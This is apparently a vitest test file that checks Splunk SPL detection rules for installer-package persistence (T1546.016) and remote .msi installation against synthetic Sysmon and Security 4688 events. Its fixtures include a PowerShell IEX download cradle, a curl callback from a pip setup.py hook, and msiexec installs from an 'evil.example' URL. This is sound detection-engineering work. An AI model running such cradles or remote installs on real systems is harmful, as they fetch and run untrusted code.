// The SPL rules under detections/spl over flat events written here: the seed rules behave as
// spl.md's walk-throughs (§10, §11) predict, explain reports every defect spl.md lists with
// line:column, and the corrected rules detect the lab's three T1546.016 tests on the current
// add-on naming, the legacy naming, Security 4688 and Sysmon for Linux.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadMacros, splEngine } from '../../../detections/engines/spl/index.ts';
import type { CompiledRule, ResultRow, ViewEvent } from '../../../detections/engines/types.ts';
import { REPO_ROOT } from '../../support/corpus.ts';

const SPL_DIR = path.join(REPO_ROOT, 'detections/spl');
const MACROS = loadMacros(readFileSync(path.join(REPO_ROOT, 'detections/macros/endpoint.conf'), 'utf8'), 'endpoint.conf');

function rule(name: string): CompiledRule {
  return splEngine.compile(readFileSync(path.join(SPL_DIR, name), 'utf8'), { file: `detections/spl/${name}`, macros: MACROS, settings: { now: '1730000000' } });
}

async function rows(r: CompiledRule, events: ViewEvent[]): Promise<ResultRow[]> {
  const out: ResultRow[] = [];
  for await (const x of r.evaluate(events)) out.push(x);
  return out;
}

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const win = (profile: 'splunk' | 'splunk-legacy', channel: string, fields: Record<string, string>): ViewEvent => ({
  index: 'wineventlog',
  sourcetype: profile === 'splunk' ? 'XmlWinEventLog' : `XmlWinEventLog:${channel}`,
  source: `XmlWinEventLog:${channel}`,
  host: 'WIN-LAB',
  ...fields,
});

// test 1: msiexec -> powershell with a download cradle
const T1_SYSMON = (p: 'splunk' | 'splunk-legacy') => win(p, SYSMON, {
  _time: '2024-10-26T15:13:49.911Z', EventCode: '1', ParentImage: 'C:\\Windows\\System32\\msiexec.exe',
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', User: 'LAB\\alice',
  CommandLine: "powershell.exe -NoProfile -Command \"IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:8765/t1?marker=m1')\"",
});
const T1_4688 = (p: 'splunk' | 'splunk-legacy') => win(p, 'Security', {
  _time: '2024-10-26T15:13:49.911Z', EventCode: '4688', ParentProcessName: 'C:\\Windows\\System32\\msiexec.exe',
  NewProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', SubjectUserName: 'alice',
  CommandLine: "powershell.exe -NoProfile -Command \"IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:8765/t1?marker=m1')\"",
});
// test 3: msiexec -> cmd.exe writing custom_action_test.txt
const T3_SYSMON = (p: 'splunk' | 'splunk-legacy') => win(p, SYSMON, {
  _time: '2024-10-26T15:20:00Z', EventCode: '1', ParentImage: 'C:\\Windows\\System32\\msiexec.exe',
  Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'C:\\Windows\\system32\\cmd.exe /c echo m3> C:\\custom_action_test.txt',
});
const T3_4688 = (p: 'splunk' | 'splunk-legacy') => win(p, 'Security', {
  _time: '2024-10-26T15:20:00Z', EventCode: '4688', ParentProcessName: 'C:\\Windows\\System32\\msiexec.exe',
  NewProcessName: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'C:\\Windows\\system32\\cmd.exe /c echo m3> C:\\custom_action_test.txt',
});
// test 2: pip -> python (setup.py install) -> curl, Sysmon for Linux
const PIP_CMD = '/lab/venv/bin/python3 /lab/venv/bin/pip install --no-index --no-build-isolation --no-cache-dir /lab/pip_hook_pkg';
const SETUP_CMD = "/lab/venv/bin/python3 -u -c 'import io, os, sys, setuptools, tokenize; sys.argv[0] = '\"'\"'/tmp/pip-req-build-x/setup.py'\"'\"'' install --record /tmp/pip-record-y/install-record.txt --single-version-externally-managed --compile";
const linux = (fields: Record<string, string>): ViewEvent => ({ index: 'linux', sourcetype: 'sysmon:linux', source: 'Syslog:Linux-Sysmon/Operational', host: 'lab-linux', EventCode: '1', ...fields });
const T2 = [
  linux({ _time: '2024-10-26T16:00:00Z', ParentImage: '/usr/bin/bash', ParentCommandLine: 'sh -c ...', Image: '/lab/venv/bin/python3', CommandLine: PIP_CMD }),
  linux({ _time: '2024-10-26T16:00:01Z', ParentImage: '/lab/venv/bin/python3', ParentCommandLine: PIP_CMD, Image: '/lab/venv/bin/python3', CommandLine: SETUP_CMD }),
  linux({ _time: '2024-10-26T16:00:02Z', ParentImage: '/lab/venv/bin/python3', ParentCommandLine: SETUP_CMD, Image: '/usr/bin/curl', CommandLine: 'curl -s -o /dev/null http://127.0.0.1:8765/t2?marker=m2&stage=install' }),
];

describe('seed rule T1546.016 (verbatim) under real Splunk semantics (spl.md §10)', () => {
  const seed = rule('t1546.016-installer-packages.seed.spl');

  it('on the legacy sourcetype naming, Sysmon EID 1 msiexec -> powershell cradle is INSTALLER_DOWNLOAD_CRADLE', async () => {
    expect(await rows(seed, [T1_SYSMON('splunk-legacy')])).toEqual([{
      _time: '2024-10-26T15:13:49.911+00:00', host: 'WIN-LAB', User: 'LAB\\alice', EventCode: '1', DetectionType: 'INSTALLER_DOWNLOAD_CRADLE',
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: T1_SYSMON('splunk-legacy').CommandLine, ParentImage: 'C:\\Windows\\System32\\msiexec.exe',
    }]);
  });

  it('finds nothing on the current add-on naming (sourcetype XmlWinEventLog, §0.3)', async () => {
    expect(await rows(seed, [T1_SYSMON('splunk'), T3_SYSMON('splunk'), T1_4688('splunk')])).toEqual([]);
  });

  it('can never fire on 4688: coalesce(ParentImage, "", ParentProcessName, "") gives "" (§0.1)', async () => {
    // the legacy XML 4688 sourcetype is XmlWinEventLog:Security, which the seed does not select;
    // with the classic one it selects (WinEventLog:Security) the coalesce still gives ""
    const classic = { ...T1_4688('splunk-legacy'), sourcetype: 'WinEventLog:Security', source: 'WinEventLog:Security' };
    expect(await rows(seed, [T1_4688('splunk-legacy'), T3_4688('splunk-legacy'), classic])).toEqual([]);
    expect(seed.whyNot([T1_4688('splunk-legacy')]).summary).toMatch(/stage 1 \(search\)/);
    const why = seed.whyNot([classic]);
    const failed = why.nearest[0]!.failed.map((f) => `${f.predicate} :: ${f.detail}`);
    expect(failed.some((f) => f.includes('ParentImage is missing') && f.includes('coalesce(ParentImage, "", ParentProcessName, "") gave ""'))).toBe(true);
    expect(why.summary).toMatch(/stage 6 \(where\)/);
  });

  it('sees no Linux data (index=wineventlog only)', async () => {
    expect(await rows(seed, T2)).toEqual([]);
  });

  it('explain: every defect spl.md lists for Query A, with line:column', () => {
    const lints = seed.explain().lints.map((l) => `${l.position!.line}:${l.position!.column} ${l.code}`);
    expect(lints).toEqual([
      '1:20 SPL_LEGACY_SOURCETYPE',
      '1:88 SPL_LEGACY_SOURCETYPE',
      '4:39 SPL_COALESCE_EMPTY_STRING',
      '15:35 SPL_COALESCE_EMPTY_STRING',
      '15:39 SPL_FIELD_NOT_PRODUCED',
      '22:5 SPL_NOT_NULL',
      '22:30 SPL_UNANCHORED_IP_REGEX',
      '33:3 SPL_SORT_DEFAULT_LIMIT',
    ]);
  });
});

describe('seed rule Remote .msi Installation (verbatim) under real Splunk semantics (spl.md §11)', () => {
  const seed = rule('remote-msi-installation.seed.spl');
  const xml4688 = (cmd: string): ViewEvent => ({
    ...win('splunk', 'Security', { _time: '2024-10-26T15:13:48Z', EventCode: '4688', signature_id: '4688', process: cmd, process_name: 'msiexec.exe', user: 'alice', parent_process: 'C:\\Windows\\System32\\cmd.exe' }),
    _raw: `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4688</EventID><Channel>Security</Channel></System><EventData><Data Name='CommandLine'>${cmd}</Data></EventData></Event>`,
  });
  const msi1040: ViewEvent = {
    ...win('splunk', 'Application', { _time: '2024-10-26T15:13:48Z', EventCode: '1040', signature_id: '1040' }),
    Data: ['https://example.test/a.msi', '3108', '(NULL)'],
    _raw: "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='MsiInstaller'/><EventID Qualifiers='0'>1040</EventID><Channel>Application</Channel></System><EventData><Data>https://example.test/a.msi</Data><Data>3108</Data></EventData></Event>",
  };

  it('an XML 4688 URL install passes (S18) and comes out of stats values(*) as * by _time, host', async () => {
    expect(await rows(seed, [xml4688('msiexec.exe /i http://evil.example/a.msi /qn')])).toEqual([{
      _time: '2024-10-26T15:13:48.000+00:00', host: 'WIN-LAB', parent_process: 'C:\\Windows\\System32\\cmd.exe',
      process: 'msiexec.exe /i http://evil.example/a.msi /qn', process_name: 'msiexec.exe', user: 'alice',
    }]);
  });

  it('a local install is dropped by the where (S17)', async () => {
    expect(await rows(seed, [xml4688('msiexec.exe /i C:\\temp\\a.msi /qn')])).toEqual([]);
  });

  it('MsiInstaller 1040 in XML never matches ("<EventID>1040<" absent, TERM classic-only, message missing; S19)', async () => {
    expect(await rows(seed, [msi1040])).toEqual([]);
    expect(seed.whyNot([msi1040]).summary).toMatch(/stage 1 \(search\)/);
  });

  it('explain: stages, indicators and search terms as the seed page shows them', () => {
    const x = seed.explain();
    expect(x.stages.map((s) => s.name)).toEqual(['search', 'where', 'table', 'bin', 'stats']);
    expect(x.stages[0]!.text.startsWith('`get_endpoint_data` `get_endpoint_data_winevent` ((TERM(EventCode=4688)')).toBe(true);
    expect(x.terms.map((t) => t.term)).toEqual(['TERM(EventCode=4688)', '"<EventID>4688<"', 'TERM(/i)', 'TERM(install)', '".msi"', 'TERM(EventCode=1040)', 'TERM(EventCode=1042)', '"<EventID>1040<"', '"<EventID>1042<"', '"://"']);
    const ind = Object.fromEntries(x.indicators.map((i) => [`${i.field} ${i.operator}`, i.values]));
    expect(ind['EventCode eq']).toEqual(['4688', '1040', '1042']);
    expect(ind['process match']).toEqual(['(?i)\\w+tps?://\\S+\\.msi']);
    expect(ind['message match']).toEqual(['(?i)\\w+tps?://\\S+\\.msi']);
    expect(ind['signature_id match']).toEqual(['4688', '1040|1042']);
  });

  it('explain: every defect spl.md lists for Query B, with line:column', () => {
    const lints = seed.explain().lints.map((l) => `${l.position!.line}:${l.position!.column} ${l.code}`);
    expect(lints).toEqual([
      '1:52 SPL_TERM_CLASSIC_ONLY',
      '2:21 SPL_IMPOSSIBLE_VALUE',
      '2:71 SPL_OR_BEFORE_AND',
      '2:75 SPL_TERM_CLASSIC_ONLY',
      '3:4 SPL_TERM_CLASSIC_ONLY',
      '3:28 SPL_EVENTID_PHRASE_QUALIFIERS',
      '3:48 SPL_EVENTID_PHRASE_QUALIFIERS',
      '4:51 SPL_MATCH_ID_SUBSTRING',
      '4:70 SPL_FIELD_NOT_PRODUCED',
      '5:25 SPL_MATCH_ID_SUBSTRING',
      '6:12 SPL_BIN_WITHOUT_FIELD',
    ]);
  });
});

describe('corrected T1546.016 detects the three lab tests', () => {
  const fixed = rule('t1546.016-installer-packages.corrected.spl');
  const types = async (events: ViewEvent[]) => (await rows(fixed, events)).map((r) => r.DetectionType);

  for (const profile of ['splunk', 'splunk-legacy'] as const) {
    it(`test 1 on ${profile}: Sysmon and 4688 give INSTALLER_DOWNLOAD_CRADLE`, async () => {
      expect(await types([T1_SYSMON(profile)])).toEqual(['INSTALLER_DOWNLOAD_CRADLE']);
      expect(await types([T1_4688(profile)])).toEqual(['INSTALLER_DOWNLOAD_CRADLE']);
    });
    it(`test 3 on ${profile}: Sysmon and 4688 give INSTALLER_SCRIPT_CHILD`, async () => {
      expect(await types([T3_SYSMON(profile)])).toEqual(['INSTALLER_SCRIPT_CHILD']);
      expect(await types([T3_4688(profile)])).toEqual(['INSTALLER_SCRIPT_CHILD']);
    });
  }

  it('4688 rows carry the seed\'s columns (Image, ParentImage, User from the 4688 names)', async () => {
    expect(await rows(fixed, [T1_4688('splunk')])).toEqual([{
      _time: '2024-10-26T15:13:49.911+00:00', host: 'WIN-LAB', User: 'alice', EventCode: '4688', DetectionType: 'INSTALLER_DOWNLOAD_CRADLE',
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: T1_4688('splunk').CommandLine, ParentImage: 'C:\\Windows\\System32\\msiexec.exe',
    }]);
  });

  it('test 2 (Sysmon for Linux): curl with the callback URL is INSTALLER_DOWNLOAD_CRADLE, the setup.py python INSTALLER_SCRIPT_CHILD; newest first', async () => {
    const r = await rows(fixed, T2);
    expect(r.map((x) => [x.Image, x.DetectionType])).toEqual([
      ['/usr/bin/curl', 'INSTALLER_DOWNLOAD_CRADLE'],
      ['/lab/venv/bin/python3', 'INSTALLER_SCRIPT_CHILD'],
    ]);
  });

  it('network callbacks: public addresses only (cidrmatch), 52.110.3.4 is public, 172.20.1.5 private', async () => {
    const net = (ip: string) => win('splunk', SYSMON, { EventCode: '3', Image: 'C:\\Windows\\System32\\msiexec.exe', DestinationIp: ip });
    expect(await types([net('52.110.3.4')])).toEqual(['INSTALLER_NETWORK_CALLBACK']);
    expect(await types([net('172.20.1.5'), net('127.0.0.1'), net('fe80::1')])).toEqual([]);
  });

  it('has no lint findings', () => {
    expect(fixed.explain().lints).toEqual([]);
  });
});

describe('corrected Remote .msi Installation', () => {
  const fixed = rule('remote-msi-installation.corrected.spl');
  const sysmonMsi = (cmd: string) => ({
    ...win('splunk', SYSMON, { _time: '2024-10-26T15:13:48.5Z', EventCode: '1', signature_id: '1', process: cmd, process_name: 'msiexec.exe', user: 'SERVER002\\admin_test' }),
    _raw: `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>1</EventID></System><EventData><Data Name='CommandLine'>${cmd}</Data></EventData></Event>`,
  });
  const msi = (id: string, url: string) => ({
    ...win('splunk', 'Application', { _time: '2024-10-26T15:13:49Z', EventCode: id, signature_id: id }),
    Data: [url, '3108', '(NULL)'],
    _raw: `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='MsiInstaller'/><EventID Qualifiers='0'>${id}</EventID></System><EventData><Data>${url}</Data><Data>3108</Data></EventData></Event>`,
  });

  it('finds the remote install in Sysmon EID 1 and in MsiInstaller 1040/1042 (XML), not a local one or .msix', async () => {
    const url = 'https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1218.007/bin/T1218.007_JScript.msi';
    const r = await rows(fixed, [
      sysmonMsi(`c:\\windows\\system32\\msiexec.exe  /q /i "${url}"`),
      msi('1040', url),
      msi('1042', url),
      sysmonMsi('msiexec.exe /i C:\\temp\\local.msi /qn'),
      sysmonMsi('msiexec.exe /i https://x.test/app.msix /qn'),
    ]);
    expect(r).toHaveLength(2);
    expect(r.map((x) => x.signature_id)).toEqual(['1', ['1040', '1042']]);
  });

  it('has no lint findings', () => {
    expect(fixed.explain().lints).toEqual([]);
  });
});
